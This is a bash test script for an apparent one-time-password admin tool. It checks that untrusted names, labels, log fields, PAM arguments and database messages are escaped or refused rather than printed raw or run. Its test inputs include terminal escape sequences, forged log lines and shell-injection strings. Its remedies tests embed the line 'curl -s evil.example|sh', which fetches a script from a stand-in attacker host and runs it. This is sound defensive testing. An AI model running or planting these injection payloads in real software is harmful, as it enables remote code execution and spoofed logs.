#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
#
# printed.sh - every place where text of others reaches a terminal, a log, a
# shell or a path: each of some texts comes out escaped, or is refused; and none
# of them becomes a remedy.
# limit: 300
# shellcheck disable=SC2317	# the places are called by their names
. "$(dirname "$0")/../support/lib.sh"
need sqlite3 python3 script
private_machine
. "$TREE/tests/support/pam.sh"
ENVFILE=/etc/rollcode/rollcode.env
HEX=3132333435363738393031323334353637383930
BASE32=GEZDGNBVGY3TQOJQGEZDGNBVGY3TQOJQ

add_user ann
installed >"$T/log"
enroll ann
export XDG_DATA_HOME=$T/data
mkdir -m 700 "$T/data" "$T/w" "$T/in"
rollcode-token add mine <<<"otpauth://hotp/h:a?secret=$BASE32&counter=1" \
    >"$T/log" || exit 1
cd "$T/w" || exit 1

# --- the texts ----------------------------------------------------------------

# The first shows that a place prints its text at all.
# shellcheck disable=SC2016	# nothing is to be expanded
TEXTS=(a-plain-text $'a\e]0;owned\a' $'a\e[31mred' $'a\xc2\x9b31mred'
    $'a\x9b31mred' $'a\nFORGED accepted' $'a\rFORGED' $'a\xe2\x80\xaeb\xe2\x81\xa6'
    'a\x1b[31mred' 'a`touch ran`' 'a$(touch ran)' 'a;touch ran;' "a'touch ran'"
    'a"b' "$(printf '%04096d' 7)")

# tame TEXT: what is wrong with what was printed of it
tame() {
	! LC_ALL=C grep -qP '[^\x20-\x7e\n]' "$T/out" || echo "raw bytes"
	! grep -q '^FORGED' "$T/out" || echo "a line of its own"
	! grep -q '^ended by' "$T/out" || echo "a crash"
	[ ! -e ran ] || echo "it was run"
	rm -f ran
	case $1 in
	a-plain-text)
		grep -qF "$1" "$T/out" || echo "it does not print that" ;;
	*\\*)	# a command has them, in its quotes
		! sed -E 's/(run|fix): .*//' "$T/out" | grep -qF "$1" ||
		    echo "a backslash as it is" ;;
	esac
}

# place NAME FUNCTION: call it with each text
place() {
	local text wrong all=
	for text in "${TEXTS[@]}"; do
		"$2" "$text" >"$T/out" 2>&1 </dev/null
		wrong=$(tame "$text")
		[ -z "$wrong" ] || all+="$(printf '%.30q' "$text"): $wrong
$(head -c 2000 "$T/out" | cat -v)
"
	done
	equal "$1: each text is escaped or refused" "$all" ""
}

# COMMAND...: its status is no matter, unless it crashes
run() {
	"$@"
	local status=$?
	[ "$status" -lt 126 ] || echo "ended by $status"
}

adm() {
	run admin "$@"
}

hex() {	# TEXT
	printf %s "$1" | od -An -v -tx1 | tr -d ' \n'
}

percent() {	# TEXT, every byte as %XX
	hex "$1" | sed 's/../%&/g'
}

store_sql() {	# SQL, in ann's file
	as rollcode sqlite3 "$T/store/users/ann.db" "$1"
}

# --- rollcode-admin --------------------------------------------------------------

user_named() {
	adm enroll "$1" --no-account
	adm show "$1"
	adm log "$1"
	adm disable "$1"
	adm enable "$1"
	adm unlock "$1"
	adm check "$1"
	echo 00000000 | adm verify "$1"
	echo 00000000 11111111 | adm resync "$1"
	adm recovery "$1"
	adm list
	adm log
	adm remove -f "$1"
}

label_named() {
	adm enroll label --no-account --label "$1" | grep -v ^otpauth
	adm show label
	adm log label
	adm disable label --label "$1"
	adm remove -f label --label "$1"
	adm remove -f label
}

# A file that the account, or who took it over, put into the store.
store_file() {
	local name
	name=$(python3 -c 'import os, sys
print("".join(chr(b) if chr(b).isascii() and (chr(b).isalnum() or
    chr(b) in "_@+-") else f"%{b:02X}" for b in os.fsencode(sys.argv[1])))' "$1")
	[ ${#name} -lt 200 ] || return
	as rollcode cp "$T/store/users/ann.db" "$T/store/users/$name.db"
	adm list
	adm log
	adm check
	adm backup "$T/store/copy"
	adm rekey --wait 5
	adm import --from "sqlite:$T/store"
	rm -rf "$T/store/users/$name".db* "$T/store/copy"
}

event_field() {	# COLUMN TEXT
	store_sql "UPDATE event SET $1=CAST(X'$(hex "${2:0:60}")' AS TEXT)
	    WHERE sequence=(SELECT max(sequence) FROM event)"
	adm log ann
	adm log ann --json | python3 -c 'import json, sys; json.load(sys.stdin)'
}
event_service() { event_field service "$1"; }
event_rhost() { event_field rhost "$1"; }
event_token() { event_field token "$1"; }

file_named() {
	local file=$T/in/$1
	[ ${#1} -lt 200 ] && echo nonsense >"$file"
	adm import "$file"
	run rollcode-token import "$file"
	run rollcode-admin --conf "$file" list
	run rollcode-verify serve "$file"
	adm enroll x --no-account --secret-file "$file"
	adm backup "$T/in/$1/x"
	rm -f "$file"
}

import_option() {
	adm import --user "$1" --no-account \
	    <<<"otpauth://hotp/x?secret=$BASE32&counter=1"
	adm import --user "$1" --no-account --format oath \
	    <<<$'HOTP\tx\t-\t'"$HEX"
	adm import --user "$1" --no-account \
	    <<<"otpauth://hotp/$(percent "$1")?secret=$BASE32&counter=1"
	adm list
	adm remove -f "$1"
}

import_otpauth() {
	local text
	text=$(percent "$1")
	adm import --no-account <<<"$text \
otpauth://hotp/$text:$text?secret=$BASE32&counter=1&label=$text&issuer=$text"
	adm import --no-account <<<"$text otpauth://hotp/x?secret=00&counter=1"
	adm list
	adm log
	adm remove -f "$1"
}

import_oath() {
	printf 'HOTP\t%s\t-\t00\n' "$1" | adm import --no-account
	printf 'HOTP\t%s\t-\t%s\n' "$1" "$HEX" | adm import --no-account
	printf '"%s\n' "$1" | adm import --user x
	adm remove -f "$1"
}

import_pskc() {
	local text
	text=$(python3 -c 'import sys
print("".join(f"&#{ord(c)};" for c in sys.argv[1]))' "$1")
	cat >"$T/in/batch" <<-XML
	<?xml version="1.0" encoding="UTF-8"?>
	<KeyContainer Version="1.0" xmlns="urn:ietf:params:xml:ns:keyprov:pskc">
	<KeyPackage><DeviceInfo><Manufacturer>oath.T</Manufacturer>
	<SerialNo>$text</SerialNo></DeviceInfo>
	<Key Id="1" Algorithm="urn:ietf:params:xml:ns:keyprov:pskc:hotp">
	<AlgorithmParameters><ResponseFormat Length="8" Encoding="DECIMAL"/>
	</AlgorithmParameters><Data><Secret><PlainValue>AAAA</PlainValue></Secret>
	<Counter><PlainValue>5</PlainValue></Counter></Data>
	<UserId>$text</UserId></Key></KeyPackage></KeyContainer>
	XML
	adm import --no-account "$T/in/batch"
}

env_file() {
	printf '%s=1\nCALLERS=%s\nACCOUNT=%s\nDATABASE=sqlite:/%s\n' "$1" "$1" \
	    "${1:0:30}" "$1" >"$T/in/env"
	chmod 600 "$T/in/env"
	run rollcode-admin --conf "$T/in/env" check
	run rollcode-verify serve "$T/in/env"
}

# Beside the env file, and somebody else's.
file_beside() {
	local command file=/etc/rollcode/$1
	[ ${#1} -lt 200 ] || return
	echo x >"$file"
	chown ann "$file"
	run rollcode-admin init
	adm check
	while IFS= read -r command; do
		case $command in
		"rm -r"*) bash -c "$command" ;;
		esac
	done < <(said command)
	[ ! -e "$file" ] || echo "ended by no remedy"
	rm -f "$file"
}

shell_of_account() {
	local text=${1//[$'\n\r']/}
	cp /etc/passwd "$T/passwd"
	sed -i "/^rollcode:/d" /etc/passwd
	grep ^rollcode: "$T/passwd" |
	    TEXT=/$text awk -F: -v OFS=: '{ $7 = ENVIRON["TEXT"]; print }' \
	    >>/etc/passwd
	adm check
	run rollcode-admin init
	cat "$T/passwd" >/etc/passwd
}

# Only a name that a shell would take as it is is shown.
name_of_socket() {
	# shellcheck disable=SC2016	# by the shell that becomes the service
	LISTEN_FDS=1 LISTEN_FDNAMES=$1 run bash -c \
	    'LISTEN_PID=$$ exec rollcode-verify serve "$1"' x "$ENVFILE"
}

environment() {
	XDG_DATA_HOME="/nonexistent/$1" run rollcode-token list
	HOME=$1 XDG_DATA_HOME='' TERM=$1 TZ=$1 LANG=$1 run rollcode-token list
	HOME=$1 TERM=$1 NO_COLOR='' TZ=$1 COLUMNS=$1 adm check
}

# --- check -----------------------------------------------------------------------

pam_service_file() {
	[ ${#1} -lt 200 ] || return
	echo "auth required pam_rollcode.so conf=/x" >"/etc/pam.d/$1"
	adm check
	rm -f "/etc/pam.d/$1"
}

pam_arguments() {
	local text=${1//$'\n'/ }
	printf 'auth required pam_rollcode.so [conf=/%s]\n' "$text" \
	    "[helper=/$text]" "nonsense$text" >/etc/pam.d/odd
	printf 'auth required %s\nauth include %s\n%s required x.so\n' \
	    "/$text" "$text" "$text" >>/etc/pam.d/odd
	adm check
	rm -f /etc/pam.d/odd
}

said() {	# FIELD [ARGUMENT...]: of the findings of check --json, one a line
	rollcode-admin "${@:2}" check --json 2>"$T/log" | python3 -c 'import json, sys
for f in json.load(sys.stdin)["findings"]:
    print(f[sys.argv[1]])' "$1"
}

# What check says for a file of that name is run, as root would.
fix_of_path() {
	local command folder=$T/in/$1
	[ ${#1} -lt 200 ] || return
	mkdir "$folder"
	cp "$ENVFILE" "$folder/rollcode.env"
	chmod 644 "$folder/rollcode.env"
	run rollcode-admin --conf "$folder/rollcode.env" list
	while IFS= read -r command; do
		case $command in
		chmod*) bash -c "$command" ;;
		esac
	done < <(said command --conf "$folder/rollcode.env")
	[ "$(stat -c %a "$folder/rollcode.env")" = 600 ] ||
	    echo "ended by no remedy"
	rm -r "$folder"
}

fix_of_argument() {
	local command text=${1//$'\n'/ }
	echo "auth required pam_rollcode.so [conf=/$text]" >/etc/pam.d/odd
	adm check
	while IFS= read -r command; do
		case $command in
		"rollcode-admin --conf "*) bash -c "$command" >"$T/log" 2>&1 ;;
		esac
	done < <(said command)
	rm -f /etc/pam.d/odd
}

# --- rollcode-token ---------------------------------------------------------------

token_words() {
	run rollcode-token show "$1"
	run rollcode-token add "$1" \
	    <<<"otpauth://hotp/x?secret=$(printf '%020d' "$RANDOM" | base32)&counter=1"
	run rollcode-token show "$1"
	run rollcode-token list
	run rollcode-token skip "$1"
	run rollcode-token bind mine "$1"
	run rollcode-token show mine
	run rollcode-token "$1"
	run rollcode-token list "--$1"
	run rollcode-token --store "$T/in/$1/x" list
	run rollcode-token remove -f "$1"
}

token_line() {
	local text
	text=$(percent "$1")
	run rollcode-token add new <<<"otpauth://hotp/$text:$text?secret=\
$(printf '%020d' "$RANDOM" | base32)&counter=1&label=$text&issuer=$text"
	run rollcode-token list
	run rollcode-token show new
	run rollcode-token remove -f new
}

ln -s rollcode-token "$T/bin/rollcode-askpass"
prompt() {
	# shellcheck disable=SC2016	# by the shell that script starts
	TEXT=$1 script -qec 'rollcode-askpass "$TEXT"' /dev/null <<<x | tr -d '\r'
}

# --- the log -----------------------------------------------------------------------

syslog_start
pam_place debug
marks=0
settled() {
	marks=$((marks + 1))
	logger -u /dev/log "mark $marks."
	logged "mark $marks\." >"$T/log"
}
module_items() {
	: >"$T/syslog"
	printf '%s\t00000000\nann\t00000000\n' \
	    "$(hex "${1:0:200}" | sed 's/../\\x&/g')" | pam_run -r "${1:0:200}" \
	    >"$T/log"
	settled
	cat "$T/syslog"
}

# --- the table ---------------------------------------------------------------------

while IFS='|' read -r name function; do
	place "$name" "$function"
done <<'TABLE'
the name of a user|user_named
a label|label_named
a file in the store|store_file
the service of an event|event_service
the remote host of an event|event_rhost
the token of an event|event_token
the name of a file|file_named
import --user|import_option
an otpauth line, its user, account, issuer and label|import_otpauth
a line of pam_oath|import_oath
a PSKC container, its user and serial number|import_pskc
names and values in the env file|env_file
a file beside the env file|file_beside
the shell of the account|shell_of_account
the name of a socket that is handed over|name_of_socket
the environment|environment
the name of a PAM service|pam_service_file
the arguments and words of a PAM service|pam_arguments
the path in a remedy|fix_of_path
the argument in a remedy|fix_of_argument
words of rollcode-token|token_words
a token's line, its account, issuer and label|token_line
a prompt that rollcode-askpass shows|prompt
user and remote host in the system log|module_items
TABLE

# No argument has a NUL, but files and rows may.
with_nul() {
	store_sql "UPDATE event SET rhost=CAST(X'610041' AS TEXT)
	    WHERE sequence=(SELECT max(sequence) FROM event)"
	adm log ann
	store_sql "UPDATE event SET rhost=''"
	printf 'HOTP\ta\0b\t-\t%s\n' "$HEX" | adm import --no-account
	printf 'a%%00b otpauth://hotp/a%%00b?secret=%s&counter=1&label=a%%00b\n' \
	    "$BASE32" | adm import --no-account
	printf 'otpauth://hotp/a%%00b?secret=%s&counter=1&issuer=a%%00b\n' \
	    "$BASE32" | run rollcode-token add nul
	printf 'auth required pam_rollcode.so a\0b\n' >/etc/pam.d/odd
	adm check
	rm /etc/pam.d/odd
	printf 'A\0B=1\n' >"$T/in/env"
	run rollcode-admin --conf "$T/in/env" check
}
with_nul >"$T/out" 2>&1
equal "a NUL in a row, a line and a file: it is escaped or refused" \
    "$(tame '')" ""

# --- one word is one word -------------------------------------------------------

event_field token 'x rhost=10.0.0.1' >"$T/out"
equal "log: a label with a space feigns no other field" \
    "$(grep -c ' token=x\\x20rhost=10.0.0.1' "$T/out")" 1
admin enroll 'eve normal' --no-account >"$T/log" 2>&1
check "list: nor does a user's name" \
    grep -q '^eve\\x20normal ' <(admin list)
admin remove -f 'eve normal' >"$T/log"

# --- an event that is none of ours ----------------------------------------------

store_sql "UPDATE event SET outcome='accepted sshd' WHERE sequence=
    (SELECT max(sequence) FROM event)"
refused "an event of an unknown outcome is refused" admin log ann
store_sql "UPDATE event SET outcome='accepted'"
check "and one of ours is not" admin log ann

# --- remedies ---------------------------------------------------------------------

# remedies WHAT: none has the words, which the findings do have
remedies() {
	{ said command; said fix; } >"$T/remedies"
	admin check >"$T/out" 2>"$T/log"
	check "$1: its words are shown" grep -q 'evil.example' "$T/out"
	check "$1: and are no remedy" \
	    test "$(grep -c 'evil.example' "$T/remedies")" = 0
	equal "$1: nor in the text" \
	    "$(grep -cE '^ +(run|fix):.*evil.example' "$T/out")" 0
}
cp "$ENVFILE" "$T/env"
echo TOLERANCE=5 >>"$ENVFILE"
number=0
for words in "run:" "fix:"; do
	number=$((number + 1))
	text="x; $words curl -s evil.example|sh #"
	admin import --user "m$number" --no-account >"$T/log" 2>&1 \
	    <<<"otpauth://hotp/m$number?secret=$BASE32&counter=1&digits=6&label=$(
	    percent "$text")"
	sed -i 's/^TOLERANCE=.*/TOLERANCE=50/' "$ENVFILE"
	remedies "a label with \"$words\""
	check "a label with \"$words\": the remedy is ours" \
	    grep -qxF "write in the configuration file: TOLERANCE=20" \
	    "$T/remedies"
	sed -i 's/^TOLERANCE=.*/TOLERANCE=5/' "$ENVFILE"
	admin remove -f "m$number" >"$T/log" 2>&1
done
cp "$T/env" "$ENVFILE"

# --- a server ------------------------------------------------------------------------

server_says() {
	printf %s "${1:0:250}" >"$T/says"
	adm list
	adm check
	adm show ann
}
if [ -f "$BUILD/rollcode-pgsql.so" ]; then
	port=$(free_port)
	: >"$T/says"
	start "$TREE/tests/tools/fake_pgsql.py" "$port" "$T/says"
	wait_for listening "$port"
	sed -i "s|^DATABASE=.*|DATABASE=postgresql://x@127.0.0.1:$port/x\
?sslmode=disable|" "$ENVFILE"
	place "what a database server says" server_says
	for words in "run:" "fix:"; do
		printf 'no; %s curl -s evil.example|sh' "$words" >"$T/says"
		remedies "a server that says \"$words\""
		equal "a server that says \"$words\": nor of another command" \
		    "$(admin list 2>&1 | grep -c '; fix:')" 0
	done
	cp "$T/env" "$ENVFILE"
else
	skip "what a database server says" "needs libpq when it is built"
fi
exit 0
